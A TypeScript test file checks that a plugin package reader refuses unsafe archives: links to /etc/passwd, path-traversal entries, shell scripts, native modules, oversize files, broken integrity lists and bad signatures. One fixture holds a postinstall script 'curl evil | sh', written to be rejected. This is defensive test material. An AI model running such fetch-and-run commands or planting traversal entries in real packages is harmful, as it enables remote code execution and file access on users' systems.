import { describe, expect, test } from 'vitest'
import { readPackage } from '../../../core/host/package.ts'
import { readPacked } from '../../../core/host/unpack.ts'
import { createSigner, listed, packed, packedFiles, type Entry } from '../../support/packed.ts'
import { pluginFolder, pluginManifest, probeCode } from '../../support/pluginFolder.ts'

const files = { 'plugin.json': pluginManifest(), 'plugin.ts': probeCode('() => done()') }
const good: Entry[] = Object.entries(files).map(([name, content]) => ({
  path: `package/${name}`,
  content: typeof content === 'string' ? content : JSON.stringify(content),
}))

test('reads a package, its README with it, and gives it the digest of the folder that it was', async () => {
  await using folder = await pluginFolder({ ...files, 'README.md': '# Probe' })
  const pkg = await readPacked(packedFiles({ ...files, 'README.md': '# Probe' }))
  expect(pkg).toEqual(await readPackage(folder.path))
  expect(pkg).toMatchObject({ manifest: { id: 'probe' }, readme: '# Probe' })
})

test.each<[string, Entry, RegExp]>([
  ['a symbolic link', { path: 'package/x.ts', type: '2', target: '/etc/passwd' }, /is a link/],
  ['a hard link', { path: 'package/x.ts', type: '1', target: 'package/plugin.ts' }, /is a link/],
  ['a device', { path: 'package/x.ts', type: '3' }, /not a plain file/],
  ['a way out of the folder', { path: 'package/../../x.ts', content: 'x' }, /leads out|sound/],
  [
    'an absolute path',
    { path: '/tmp/slateboard-x.ts', content: 'x' },
    /leads out|below package|sound/,
  ],
  [
    'a backslash',
    { path: String.raw`package\..\x.ts`, content: 'x' },
    /leads out|below package|sound/,
  ],
  ['a place beside package/', { path: 'other/x.ts', content: 'x' }, /below package/],
  [
    'a name twice but for the case',
    { path: 'package/PLUGIN.ts', content: 'x' },
    /but for the case/,
  ],
  ['a name twice', { path: 'package/plugin.ts', content: 'x' }, /but for the case/],
  ['a shell script', { path: 'package/install.sh', content: 'x' }, /a script or a program/],
  ['a native module', { path: 'package/x.node', content: 'x' }, /a script or a program/],
  ['a recipe for one', { path: 'package/binding.gyp', content: '{}' }, /a script or a program/],
  [
    'more than 4 MB',
    { path: 'package/big.json', content: 'x'.repeat(4_200_000) },
    /unpacks to more than/,
  ],
])('refuses %s', async (_what, entry, reason) => {
  await expect(readPacked(packed([...good, entry]))).rejects.toMatchObject({
    code: 'plugin_file_refused',
    message: expect.stringMatching(reason),
  })
})

test('refuses more than 500 files, and what is no archive', async () => {
  const many = Array.from({ length: 500 }, (_, n) => ({ path: `package/${n}.json`, content: '1' }))
  await expect(readPacked(packed([...good, ...many]))).rejects.toThrow(/more than 500 files/)
  await expect(readPacked(Buffer.from('hello'))).rejects.toThrow(/not a sound .tgz/)
})

test('refuses a package that counts on npm running its scripts, and takes scripts that wait to be called', async () => {
  const withScripts = (scripts: object) =>
    readPacked(packedFiles({ ...files, 'package.json': JSON.stringify({ scripts }) }))
  await expect(withScripts({ postinstall: 'curl evil | sh' })).rejects.toMatchObject({
    code: 'plugin_file_refused',
    message: expect.stringContaining('postinstall'),
  })
  await expect(withScripts({ test: 'vitest' })).resolves.toMatchObject({ manifest: {} })
})

describe('a package that lists its files', () => {
  test('is taken when every file is what the list says, as folder and packed', async () => {
    await using folder = await pluginFolder(listed(files))
    const { digest } = await readPackage(folder.path)
    expect(await readPacked(packedFiles(listed(files)))).toMatchObject({ digest })
  })

  test.each([
    ['other bytes', { 'plugin.ts': probeCode('() => cancel("x")') }, /plugin.ts has other bytes/],
    ['a file more', { 'more.ts': 'x' }, /more.ts is not listed/],
    ['a list that is none', { 'integrity.json': '{"files":[]}' }, /does not have the right shape/],
  ])('is refused with %s', async (_what, changed, reason) => {
    const refusal = { code: 'plugin_integrity_broken', message: expect.stringMatching(reason) }
    await expect(readPacked(packedFiles({ ...listed(files), ...changed }))).rejects.toMatchObject(
      refusal,
    )
  })

  test('is refused with a file less', async () => {
    const { 'plugin.ts': _, ...rest } = listed({ ...files, 'more.ts': 'export {}' })
    const { 'more.ts': __, ...less } = listed({ ...files, 'more.ts': 'export {}' })
    for (const some of [rest, less]) {
      await expect(readPacked(packedFiles(some))).rejects.toThrow(/is missing/)
    }
  })
})

describe('a signature', () => {
  const signer = createSigner()

  test('names its key when it is over these very files', async () => {
    const pkg = await readPacked(packedFiles(signer.sign(files)))
    expect(pkg.signer).toBe(signer.publicKey)
    expect(pkg.digest).toBe((await readPacked(packedFiles(files))).digest)
  })

  test('is refused over other files, under another key, and without the list', async () => {
    const signed = signer.sign(files)
    const other = createSigner()
    const mixed = {
      ...listed({ ...files, 'plugin.ts': probeCode('() => cancel("x")') }),
      'signature.json': signed['signature.json'] ?? '',
    }
    const renamed = {
      ...signed,
      'signature.json': (signed['signature.json'] ?? '').replace(signer.publicKey, other.publicKey),
    }
    const { 'integrity.json': _, ...bare } = signed
    for (const bad of [mixed, renamed, bare, { ...signed, 'signature.json': '{}' }]) {
      await expect(readPacked(packedFiles(bad))).rejects.toMatchObject({
        code: 'plugin_signature_invalid',
      })
    }
  })
})
